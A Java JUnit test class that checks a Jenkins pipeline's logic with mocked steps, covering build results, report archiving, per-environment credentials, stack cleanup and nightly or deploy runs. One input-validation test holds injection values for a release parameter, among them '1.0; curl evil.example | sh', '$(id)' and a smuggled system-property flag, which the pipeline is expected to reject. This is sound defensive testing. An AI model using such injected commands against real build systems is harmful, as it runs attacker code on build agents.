package io.ocmt.verify.jenkins;

import static org.assertj.core.api.Assertions.assertThat;

import io.ocmt.verify.config.Environments;
import io.ocmt.verify.jenkins.Declarative.Call;
import io.ocmt.verify.jenkins.Declarative.Matrix;
import io.ocmt.verify.jenkins.Declarative.Stage;
import io.ocmt.verify.jenkins.Run.Result;
import io.ocmt.verify.jenkins.Run.StageRun;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.BeforeAllCallback;
import org.junit.jupiter.api.extension.ConditionEvaluationResult;
import org.junit.jupiter.api.extension.ExecutionCondition;
import org.junit.jupiter.api.extension.ExtensionContext;
import org.junit.jupiter.api.extension.TestWatcher;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The Jenkinsfile's logic, run with every Jenkins step mocked ({@link Build}, {@link Run}): what each
 * exit status of the suite makes of the build, what is published and archived, which credentials each
 * environment's run gets, that the stack is always removed, what the nightly and the deploy job's
 * builds run. Removing a stage or a rule from the Jenkinsfile fails at least one of these.
 */
class JenkinsfileTest {

    private static final Path REPO = Path.of("").toAbsolutePath();
    /** Configuration parameter naming another Jenkinsfile to test: JenkinsfileMutationTest's mutants. */
    static final String FILE_PARAMETER = "ocmt.jenkinsfile";
    private static Path jenkinsfile = REPO.resolve("Jenkinsfile");

    @RegisterExtension
    static final BeforeAllCallback WHICH_FILE = context -> jenkinsfile =
            context.getConfigurationParameter(FILE_PARAMETER).map(Path::of).orElse(REPO.resolve("Jenkinsfile"));

    /** Configuration parameter: after the first failure the other cases are skipped (a mutant is caught by one). */
    static final String FAIL_FAST_PARAMETER = "ocmt.jenkinsfile.failFast";

    @RegisterExtension
    static final FailFast FAIL_FAST = new FailFast();

    static final class FailFast implements ExecutionCondition, TestWatcher {
        private volatile boolean failed;

        @Override
        public ConditionEvaluationResult evaluateExecutionCondition(ExtensionContext context) {
            boolean classStarts = context.getTestMethod().isEmpty() && context.getTestClass().isPresent()
                    && context.getParent().flatMap(ExtensionContext::getTestClass).isEmpty();
            if (classStarts) {
                failed = false;
            }
            boolean on = context.getConfigurationParameter(FAIL_FAST_PARAMETER, Boolean::parseBoolean).orElse(false);
            return on && failed ? ConditionEvaluationResult.disabled("an earlier case failed") : ConditionEvaluationResult.enabled("");
        }

        @Override
        public void testFailed(ExtensionContext context, Throwable cause) {
            failed = true;
        }
    }
    private static final String SUMMARY = "target/failsafe-reports/failsafe-summary.xml";
    private static final String RESULTS = "target/allure-results";

    /** A build of ENV whose suite run exits with status; failsafe ran (its summary and Allure results exist) when suitesRan. */
    private static Build build(String env, int status, boolean suitesRan) {
        return Build.of(jenkinsfile).param("ENV", env)
                .shell(step -> isVerify(step) ? status : 0)
                .files(path -> suitesRan && (path.equals(SUMMARY) || path.equals(RESULTS)));
    }

    private static boolean isVerify(Step step) {
        return step.name().equals("sh") && step.script().startsWith("./mvnw");
    }

    private static List<Step> verifyRuns(Run run) {
        return run.steps().stream().filter(JenkinsfileTest::isVerify).toList();
    }

    private static Step onlyVerifyRun(Run run) {
        List<Step> runs = verifyRuns(run);
        assertThat(runs).as("suite runs").hasSize(1);
        return runs.get(0);
    }

    private static List<String> words(Step sh) {
        return List.of(sh.script().trim().split("\\s+"));
    }

    private static boolean isStackRemoval(Step step) {
        return step.name().equals("sh") && step.script().contains("label=io.ocmt.verify.stack=") && step.script().contains("docker rm -f");
    }

    /** The cell's steps: those whose stage path starts with the cell's. */
    private static List<Step> cell(Run run, String target) {
        return run.steps().stream().filter(s -> s.inStage("Verify / TARGET=" + target)).toList();
    }

    private static Stage stage(Run run, String name) {
        return run.pipeline().stages.stream().filter(s -> s.name.equals(name)).findFirst()
                .orElseThrow(() -> new AssertionError("no stage '" + name + "' in the Jenkinsfile"));
    }

    private static Matrix matrix(Run run) {
        Matrix m = stage(run, "Verify").matrix;
        assertThat(m).as("the Verify stage is a matrix").isNotNull();
        return m;
    }

    private static List<String> envChoices(Run run) {
        Call env = run.pipeline().parameters.stream().filter(p -> "ENV".equals(p.named().get("name"))).findFirst()
                .orElseThrow(() -> new AssertionError("no ENV parameter"));
        assertThat(env.name()).isEqualTo("choice");
        return ((List<?>) env.named().get("choices")).stream().map(String::valueOf).toList();
    }

    // ---- exit status → build result ------------------------------------------------------------------

    @ParameterizedTest(name = "exit {0}, suites ran: {1} -> {2}")
    @CsvSource({
        "0, true, SUCCESS",
        "1, true, UNSTABLE",   // a control failed on the target
        "2, false, FAILURE",   // bad input: the preflight stopped the run
        "3, true, FAILURE",    // not verified and not allowed
        "4, true, FAILURE",
        "137, true, FAILURE",  // killed
        "1, false, FAILURE",   // 1 before any suite ran: compilation or a unit test broke
        "0, false, FAILURE",   // 0 but nothing was judged
    })
    void exitStatusDecidesTheResult(int status, boolean suitesRan, Result expected) {
        Run run = build("staging", status, suitesRan).run();

        assertThat(run.result()).as(run.errors().toString()).isEqualTo(expected);
        Step verify = onlyVerifyRun(run);
        assertThat(verify.named()).as("the suite's status is read, not thrown").containsEntry("returnStatus", true);
        StageRun cell = run.stages().stream().filter(s -> s.path().equals("Verify / TARGET=staging")).findFirst().orElseThrow();
        assertThat(cell.result()).isEqualTo(expected);
        if (expected == Result.FAILURE && status != 0 && (status != 1)) {
            assertThat(run.errors()).anyMatch(e -> e.contains("exit status " + status));
        }
    }

    @Test
    void notVerifiedPointsAtTheList() {
        Run run = build("production", 3, true).run();

        assertThat(run.errors()).anyMatch(e -> e.contains("not verified and not allowed") && e.contains("reports/production/not-verified.txt"));
    }

    // ---- JUnit, Allure, archives -------------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(ints = {0, 1, 2, 3})
    void junitGetsFailsafeReportsOnly(int status) {
        Run run = build("staging", status, status != 2).run();

        List<Step> junit = run.steps("junit");
        assertThat(junit).hasSize(1);
        assertThat(junit.get(0).named()).containsEntry("testResults", "target/failsafe-reports/TEST-*.xml");
        assertThat(junit.get(0).post()).isEqualTo("always");
        assertThat(run.steps()).noneMatch(s -> s.args().toString().contains("surefire"));
    }

    @Test
    void allureIsTheNamedToolOnTheSuitesResults() {
        Run run = build("staging", 1, true).run();

        List<Step> allure = run.steps("allure");
        assertThat(allure).hasSize(1);
        assertThat(allure.get(0).named()).containsExactlyInAnyOrderEntriesOf(Map.of(
                "commandline", "allure-2.34", "includeProperties", false, "jdk", "",
                "results", List.of(Map.of("path", RESULTS))));
        assertThat(allure.get(0).post()).isEqualTo("always");
        assertThat(allure.get(0).node()).isEqualTo("docker");
    }

    @Test
    void noAllureReportWithoutResults() {
        Run run = build("staging", 2, false).run();

        assertThat(run.steps("allure")).isEmpty();
        assertThat(run.result()).isEqualTo(Result.FAILURE);
    }

    @ParameterizedTest
    @ValueSource(ints = {0, 1, 2, 3})
    void reportsAndResultsAreArchived(int status) {
        Run run = build("production", status, status != 2).run();

        List<Step> archive = run.steps("archiveArtifacts");
        assertThat(archive).hasSize(1);
        assertThat(archive.get(0).post()).isEqualTo("always");
        assertThat(archive.get(0).named()).containsEntry("allowEmptyArchive", true);
        List<String> patterns = List.of(archive.get(0).arg("artifacts").split(",\\s*"));
        assertThat(patterns).containsExactlyInAnyOrder("reports/production/**", "target/jenkins/production/**");
        // What the release manager signs: the single-file report, the sign-off summary and what was not verified.
        assertThat(List.of("reports/production/index.html", "reports/production/signoff.md", "reports/production/signoff.json",
                "reports/production/not-verified.txt", "target/jenkins/production/allure-results/a-result.json",
                "target/jenkins/production/reference-stack/ab12cd34/nginx.log"))
                .allMatch(path -> archived(patterns, path));
        assertThat(List.of("reports/staging/signoff.md", "target/surefire-reports/TEST-x.xml", "target/allure-results-unit/a.json"))
                .noneMatch(path -> archived(patterns, path));
        Step collect = run.steps("sh").stream().filter(s -> "Collect results".equals(s.arg("label"))).findFirst().orElseThrow();
        assertThat(collect.seq()).isLessThan(archive.get(0).seq());
        assertThat(collect.named()).containsEntry("returnStatus", true);
    }

    /** The copy runs for real: each cell's Allure results and stack logs under target/jenkins/<target>/. */
    @Test
    void collectCopiesResultsAndStackLogs(@TempDir Path workspace) throws Exception {
        Files.createDirectories(workspace.resolve("target/allure-results"));
        Files.writeString(workspace.resolve("target/allure-results/a-result.json"), "{}");
        Files.createDirectories(workspace.resolve("target/reference-stack/ab12cd34/backups"));
        Files.writeString(workspace.resolve("target/reference-stack/ab12cd34/nginx.log"), "log");
        Files.writeString(workspace.resolve("target/reference-stack/ab12cd34/ca.pem"), "not a log");
        Step collect = build("reference", 0, true).run().steps("sh").stream()
                .filter(s -> "Collect results".equals(s.arg("label"))).findFirst().orElseThrow();

        assertThat(sh(workspace, collect.script(), Map.of("TARGET", "reference"))).isZero();

        Path out = workspace.resolve("target/jenkins/reference");
        assertThat(out.resolve("allure-results/a-result.json")).exists();
        assertThat(out.resolve("reference-stack/ab12cd34/nginx.log")).exists();
        assertThat(out.resolve("reference-stack/ab12cd34/ca.pem")).doesNotExist();
    }

    @Test
    void earlierResultsAreRemovedBeforeTheRun() {
        Run run = build("staging", 0, true).run();

        Step verify = onlyVerifyRun(run);
        Step fresh = run.steps("sh").stream().filter(s -> s.script().startsWith("rm -rf ")).findFirst().orElseThrow();
        assertThat(words(fresh)).containsExactly("rm", "-rf", "target", "reports/staging");
        assertThat(fresh.seq()).isLessThan(verify.seq());
        assertThat(fresh.stage()).isEqualTo(verify.stage());
    }

    // ---- the stack is always removed ----------------------------------------------------------------------

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"passed", "control failed", "bad input", "not verified", "bootstrap broke", "credentials missing",
                            "junit broke"})
    void postAlwaysRemovesTheStack(String outcome) {
        Build build = switch (outcome) {
            case "passed" -> build("reference", 0, true);
            case "control failed" -> build("reference", 1, true);
            case "bad input" -> build("reference", 2, false);
            case "not verified" -> build("reference", 3, true);
            case "bootstrap broke" -> build("reference", 0, true).shell(s -> s.script().contains("bootstrap-docker") ? 1 : 0);
            case "credentials missing" -> build("reference", 0, true).failing("withCredentials");
            case "junit broke" -> build("reference", 1, true).failing("junit");
            default -> throw new IllegalArgumentException(outcome);
        };
        Run run = build.run();

        List<Step> removals = run.steps().stream().filter(JenkinsfileTest::isStackRemoval).toList();
        assertThat(removals).as("stack removals").hasSize(1);
        Step removal = removals.get(0);
        assertThat(removal.post()).isEqualTo("always");
        assertThat(removal.stage()).isEqualTo("Verify / TARGET=reference");
        assertThat(removal.node()).isEqualTo("docker");
        assertThat(removal.named()).as("removal never fails the build").containsEntry("returnStatus", true);
        assertThat(run.steps("junit").stream().allMatch(j -> j.seq() > removal.seq())).as("removed before publishing").isTrue();
        if (!outcome.equals("passed")) {
            assertThat(run.result()).isNotEqualTo(Result.SUCCESS);
        }
    }

    /** The removal script runs for real, with a docker that records what it is asked. */
    @Test
    void removalTakesOnlyThisRunsStacksAndTheirNetworks(@TempDir Path workspace) throws Exception {
        Files.createDirectories(workspace.resolve("target/reference-stack/ab12cd34"));
        Path bin = Files.createDirectories(workspace.resolve("bin"));
        Path docker = bin.resolve("docker");
        Files.writeString(docker, """
                #!/bin/sh
                echo "$*" >> "$DOCKER_LOG"
                case "$1 $2" in
                  "ps -aq") [ "$4" = "label=io.ocmt.verify.stack=ab12cd34" ] && printf 'c1\\nc2\\n' ;;
                  "inspect --format") echo 'n1 ' ; echo 'n1 ' ;;
                esac
                exit 0
                """);
        docker.toFile().setExecutable(true);
        Step removal = build("reference", 0, true).run().steps().stream().filter(JenkinsfileTest::isStackRemoval).findFirst().orElseThrow();
        Path log = workspace.resolve("docker.log");

        assertThat(sh(workspace, removal.script(), Map.of("PATH", bin + ":" + System.getenv("PATH"), "DOCKER_LOG", log.toString())))
                .isZero();

        assertThat(Files.readAllLines(log)).containsExactly(
                "ps -aq --filter label=io.ocmt.verify.stack=ab12cd34",
                "inspect --format {{range .NetworkSettings.Networks}}{{.NetworkID}} {{end}} c1 c2",
                "rm -f c1 c2",
                "network rm n1");
    }

    // ---- credentials per environment --------------------------------------------------------------------------

    /** Every environment file has an entry, naming exactly the variables its secrets: names. */
    @Test
    @SuppressWarnings("unchecked")
    void credentialsNameWhatEachEnvironmentFileNames() {
        Run run = build("staging", 0, true).run();
        Map<String, Map<String, String>> ids = (Map<String, Map<String, String>>) run.call("credentialIds");

        List<String> known = Environments.known(REPO);
        assertThat(ids.keySet()).containsExactlyInAnyOrderElementsOf(known);
        for (String name : known) {
            Set<String> variables = new HashSet<>(Environments.load(name, REPO, Map.of(), Map.of()).secrets().values());
            assertThat(ids.get(name).keySet()).as("credentials bound for %s", name).containsExactlyInAnyOrderElementsOf(variables);
            assertThat(ids.get(name).values()).as("credential ids for %s", name).allMatch(id -> !id.isBlank());
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"staging", "production", "reference"})
    void theSuiteRunsInsideItsEnvironmentsCredentials(String env) {
        Run run = build(env, 0, true).override("credentialIds", args -> fakeCredentialIds()).run();

        Step verify = onlyVerifyRun(run);
        String variable = "OCMT_" + env.toUpperCase(Locale.ROOT) + "_ADMIN_TOKEN";
        assertThat(verify.credentials()).containsExactly(Map.of("$class", "StringBinding",
                "credentialsId", "ocmt-" + env + "-admin-token", "variable", variable));
        assertThat(verify.env()).containsEntry(variable, "****");
        assertThat(run.result()).isEqualTo(Result.SUCCESS);
    }

    @Test
    void eachCellGetsOnlyItsOwnEnvironmentsCredentials() {
        Run run = build("all", 0, true).override("credentialIds", args -> fakeCredentialIds()).run();

        List<Step> runs = verifyRuns(run);
        assertThat(runs).hasSize(3);
        for (Step verify : runs) {
            String target = verify.env().get("TARGET");
            assertThat(verify.credentials()).singleElement()
                    .satisfies(b -> assertThat(b).containsEntry("credentialsId", "ocmt-" + target + "-admin-token"));
        }
    }

    @Test
    void withTheShippedMapTheRunIsStillInsideWithCredentials() {
        Run run = build("production", 0, true).run();

        Step verify = onlyVerifyRun(run);
        List<Step> with = cell(run, "production").stream().filter(s -> s.name().equals("withCredentials")).toList();
        assertThat(with).hasSize(1);
        assertThat(with.get(0).seq()).isLessThan(verify.seq());
        assertThat(with.get(0).args().get(0)).isEqualTo(List.of());
    }

    @Test
    void anEnvironmentWithoutACredentialsEntryFails() {
        Run run = build("staging", 0, true).override("credentialIds", args -> Map.of("production", Map.of())).run();

        assertThat(run.result()).isEqualTo(Result.FAILURE);
        assertThat(verifyRuns(run)).isEmpty();
        assertThat(run.errors()).anyMatch(e -> e.contains("No credentials entry for environment 'staging'"));
    }

    private static Map<String, Map<String, String>> fakeCredentialIds() {
        Map<String, Map<String, String>> ids = new LinkedHashMap<>();
        for (String env : List.of("staging", "production", "reference")) {
            ids.put(env, Map.of("OCMT_" + env.toUpperCase(Locale.ROOT) + "_ADMIN_TOKEN", "ocmt-" + env + "-admin-token"));
        }
        return ids;
    }

    // ---- what runs: nightly, after a deploy, by hand --------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(strings = {"staging", "production", "all"})
    void nightlyRunsProductionNonDestructive(String envParameter) {
        Run run = build(envParameter, 0, true).startedBy(Build.TIMER).run();

        Step verify = onlyVerifyRun(run);
        assertThat(words(verify)).startsWith("./mvnw").contains("verify", "-Denv=production", "-Docmt.grants.destructive=false",
                "-DexcludedGroups=selftest");
        assertThat(verify.script()).doesNotContain("expectRelease");
        assertThat(run.result()).isEqualTo(Result.SUCCESS);
    }

    @ParameterizedTest
    @ValueSource(strings = {"staging", "production"})
    void onlyTheNightlyTurnsDestructiveTestsOff(String env) {
        Run run = build(env, 0, true).param("RELEASE", "1.2.3").startedBy(Build.UPSTREAM).run();

        assertThat(onlyVerifyRun(run).script()).doesNotContain("destructive");
    }

    @Test
    void theNightlyIsScheduledOnMainOnly() {
        assertThat(cron(build("staging", 0, true).run())).isNotBlank();
        assertThat(cron(build("staging", 0, true).env("BRANCH_NAME", "main").run())).isNotBlank();
        assertThat(cron(build("staging", 0, true).env("BRANCH_NAME", "feature-x").run())).isEmpty();
    }

    private static String cron(Run run) {
        List<Call> crons = run.pipeline().triggers.stream().filter(t -> t.name().equals("cron")).toList();
        assertThat(crons).hasSize(1);
        return String.valueOf(crons.get(0).args().get(0));
    }

    /** An upstream trigger would start builds with default parameters: the deploy job passes them itself. */
    @Test
    void noTriggerStartsABuildWithDefaultParameters() {
        Run run = build("staging", 0, true).run();

        assertThat(run.pipeline().triggers).extracting(Call::name).containsExactly("cron");
    }

    @ParameterizedTest
    @CsvSource({"staging, 2026.12.1", "production, v1.4.0-rc.2+build.7"})
    void theDeployedReleaseReachesTheCommandLine(String env, String release) {
        Run run = build(env, 0, true).param("RELEASE", "  " + release + " ").startedBy(Build.UPSTREAM).run();

        Step verify = onlyVerifyRun(run);
        assertThat(words(verify)).contains("-Denv=" + env, "-Docmt.expectRelease=" + release, "-DexcludedGroups=selftest");
        assertThat(verify.stage()).isEqualTo("Verify / TARGET=" + env + " / Run");
        assertThat(run.result()).isEqualTo(Result.SUCCESS);
    }

    @Test
    void aDeployWithoutReleaseIsBadInput() {
        Run run = build("staging", 0, true).startedBy(Build.UPSTREAM).run();

        assertThat(run.result()).isEqualTo(Result.FAILURE);
        assertThat(run.steps("node")).as("no agent taken").isEmpty();
        assertThat(run.errors()).anyMatch(e -> e.contains("without RELEASE"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"1.0; curl evil.example | sh", "$(id)", "1.0 -Docmt.allowUnverified=true", "-Dx"})
    void aReleaseThatIsNotAReleaseNameIsBadInput(String release) {
        Run run = build("production", 0, true).param("RELEASE", release).startedBy(Build.UPSTREAM).run();

        assertThat(run.result()).isEqualTo(Result.FAILURE);
        assertThat(run.steps("node")).isEmpty();
        assertThat(verifyRuns(run)).isEmpty();
    }

    /** Production is verified when asked for, never by a build that leaves ENV as it is. */
    @Test
    void theDefaultTargetIsStaging() {
        Run run = Build.of(jenkinsfile).shell(step -> 0).files(path -> path.equals(SUMMARY)).run();

        assertThat(words(onlyVerifyRun(run))).contains("-Denv=staging");
        assertThat(run.result()).isEqualTo(Result.SUCCESS);
    }

    @Test
    void byHandWithoutReleaseTheReleaseIsNotChecked() {
        Run run = build("staging", 0, true).run();

        assertThat(onlyVerifyRun(run).script()).doesNotContain("expectRelease");
        assertThat(run.result()).isEqualTo(Result.SUCCESS);
    }

    // ---- the matrix ---------------------------------------------------------------------------------------------

    @Test
    void theMatrixCoversEveryEnvironmentOnDockerAgentsWithJdk17() {
        Run run = build("staging", 0, true).run();
        Matrix m = matrix(run);

        assertThat(m.axes).containsOnlyKeys("TARGET");
        List<String> targets = m.axes.get("TARGET");
        assertThat(targets).containsExactlyInAnyOrderElementsOf(Environments.known(REPO));
        assertThat(envChoices(run)).containsExactlyInAnyOrderElementsOf(Stream.concat(targets.stream(), Stream.of("all")).toList());
        assertThat(m.agent.label()).isEqualTo("docker");
        assertThat(m.tools).containsExactly(Map.entry("jdk", "jdk-17"));
        assertThat(m.when).isNotNull();
        assertThat(m.when.beforeAgent).as("skipped cells take no agent").isTrue();
        assertThat(run.pipeline().agent.takesNode()).as("only the cells take agents").isFalse();
        assertThat(run.pipeline().options).extracting(Call::name).contains("timeout", "disableConcurrentBuilds");
        assertThat(run.pipeline().parameters).extracting(p -> p.named().get("name")).containsExactly("ENV", "RELEASE");
    }

    @Test
    void oneEnvironmentTakesOneAgent() {
        Run run = build("staging", 0, true).run();

        assertThat(run.steps("node")).extracting(s -> s.args().get(0)).containsExactly("docker");
        Step verify = onlyVerifyRun(run);
        assertThat(verify.node()).isEqualTo("docker");
        assertThat(verify.tools()).containsEntry("jdk", "jdk-17");
        assertThat(verify.env()).containsEntry("TARGET", "staging");
        assertThat(run.stages()).filteredOn(s -> s.path().startsWith("Verify / TARGET=") && !s.path().endsWith("Run"))
                .extracting(StageRun::path, StageRun::ran)
                .containsExactlyInAnyOrder(
                        org.assertj.core.groups.Tuple.tuple("Verify / TARGET=staging", true),
                        org.assertj.core.groups.Tuple.tuple("Verify / TARGET=production", false),
                        org.assertj.core.groups.Tuple.tuple("Verify / TARGET=reference", false));
    }

    @Test
    void allRunsEveryCellAndOneFailingControlDoesNotStopTheOthers() {
        Run run = Build.of(jenkinsfile).param("ENV", "all")
                .shell(s -> isVerify(s) && s.script().contains("-Denv=production") ? 1 : 0)
                .files(path -> path.equals(SUMMARY) || path.equals(RESULTS))
                .run();

        assertThat(verifyRuns(run)).extracting(s -> s.env().get("TARGET") + " " + words(s).get(4))
                .containsExactlyInAnyOrder("staging -Denv=staging", "production -Denv=production", "reference -Denv=reference");
        assertThat(run.steps("node")).hasSize(3);
        assertThat(run.steps().stream().filter(JenkinsfileTest::isStackRemoval)).hasSize(3);
        assertThat(run.steps("junit")).hasSize(3);
        assertThat(run.result()).isEqualTo(Result.UNSTABLE);
        assertThat(run.stages()).filteredOn(s -> s.path().equals("Verify / TARGET=staging")).extracting(StageRun::result)
                .containsExactly(Result.SUCCESS);
    }

    @Test
    void onlyTheReferenceStackRunsSelfTestsAndBootstrapsDocker() {
        Run reference = build("reference", 0, true).run();
        Step verify = onlyVerifyRun(reference);
        assertThat(verify.script()).doesNotContain("excludedGroups");
        assertThat(cell(reference, "reference")).anyMatch(s -> s.name().equals("sh") && s.script().equals("scripts/bootstrap-docker")
                && s.seq() < verify.seq());

        Run staging = build("staging", 0, true).run();
        assertThat(words(onlyVerifyRun(staging))).contains("-DexcludedGroups=selftest");
        assertThat(staging.steps("sh")).noneMatch(s -> s.script().contains("bootstrap-docker"));
    }

    @Test
    void everyStageIsThere() {
        Run run = build("staging", 0, true).run();

        assertThat(run.pipeline().stages).extracting(s -> s.name).containsExactly("Parameters", "Verify");
        assertThat(matrix(run).stages).extracting(s -> s.name).containsExactly("Run");
        assertThat(matrix(run).post).containsKey("always");
        assertThat(run.stages()).extracting(StageRun::path).contains("Parameters", "Verify / TARGET=staging / Run");
    }

    // ---- helpers ------------------------------------------------------------------------------------------------

    /** Whether archiveArtifacts' Ant patterns take a workspace path ({@code **} any depth, {@code *} within a name). */
    private static boolean archived(List<String> patterns, String path) {
        return patterns.stream().anyMatch(p -> java.nio.file.FileSystems.getDefault().getPathMatcher("glob:" + p)
                .matches(Path.of(path)));
    }

    private static int sh(Path dir, String script, Map<String, String> env) throws IOException, InterruptedException {
        ProcessBuilder pb = new ProcessBuilder(new ArrayList<>(List.of("sh", "-ec", script))).directory(dir.toFile())
                .redirectErrorStream(true);
        pb.environment().putAll(env);
        Process p = pb.start();
        String output = new String(p.getInputStream().readAllBytes());
        assertThat(p.waitFor(30, TimeUnit.SECONDS)).isTrue();
        if (p.exitValue() != 0) {
            System.err.println(output);
        }
        return p.exitValue();
    }
}
